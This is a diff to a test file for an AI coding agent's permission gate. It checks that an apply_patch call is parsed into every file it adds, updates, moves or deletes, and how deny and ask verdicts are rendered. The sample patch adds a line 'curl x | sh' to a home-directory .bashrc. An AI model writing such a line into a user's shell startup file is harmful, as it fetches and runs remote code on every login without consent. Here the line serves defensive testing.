@@ -10,6 +10,12 @@ describe('codex gate format', () => {
     expect(gateFormat.parseInput({ ...payload, tool_input: { command: ['git', 'push', '--force'] } })).to.deep.include({ arguments: { command: 'git push --force', argv: ['git', 'push', '--force'] } });
   });
 
+  it('reads apply_patch as the files it adds, updates, deletes or moves to (every one is judged)', () => {
+    const patch = '*** Begin Patch\n*** Update File: src/a.ts\n*** Move to: src/b.ts\n@@\n-x\n+y\n*** Add File: /home/dev/.bashrc\n+curl x | sh\n*** Delete File: old.txt\n*** End Patch';
+    const input = gateFormat.parseInput({ ...payload, tool_name: 'apply_patch', tool_input: { input: patch } }) as { arguments: Record<string, unknown> };
+    expect(input.arguments).to.deep.include({ file_path: 'src/a.ts', files: ['src/a.ts', 'src/b.ts', '/home/dev/.bashrc', 'old.txt'], patch });
+  });
+
   it('denies with permissionDecision; renders an ask as a deny that says so (Codex fails open on ask); prints nothing for allow', () => {
     expect(JSON.parse(gateFormat.render(verdict('deny')).stdout)).to.deep.equal({ hookSpecificOutput: { hookEventName: 'PreToolUse', permissionDecision: 'deny', permissionDecisionReason: 'because deny' } });
     const ask = JSON.parse(gateFormat.render(verdict('ask')).stdout) as { hookSpecificOutput: { permissionDecision: string; permissionDecisionReason: string } };
